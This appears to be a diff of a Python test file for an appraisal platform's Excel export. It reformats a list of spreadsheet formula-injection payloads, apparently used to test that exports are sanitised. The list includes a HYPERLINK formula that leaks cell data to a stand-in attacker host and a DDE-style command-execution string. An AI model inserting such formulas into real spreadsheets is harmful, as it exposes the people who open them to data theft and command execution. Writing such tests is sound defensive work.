@@ -13,7 +13,7 @@ from openpyxl import load_workbook
 from sqlalchemy import select
 
 from appraisal.platform.db import db
-from appraisal.platform.excel import risky, save_workbook, new_workbook
+from appraisal.platform.excel import new_workbook, risky, save_workbook
 from appraisal.platform.tenancy import tenant_scope
 from appraisal.tenants.cycles import services as cycles
 from appraisal.tenants.cycles.models import Appraisee, Cycle, Phase, Population
@@ -22,8 +22,14 @@ from appraisal.tenants.results import services as results
 from appraisal.tenants.scoring.models import AdjustmentClaim, Veto
 from tests.helpers import login
 
-EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
-        "\t=1+1", "＝1+1"]
+EVIL = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "＝1+1",
+]
 
 
 @pytest.fixture
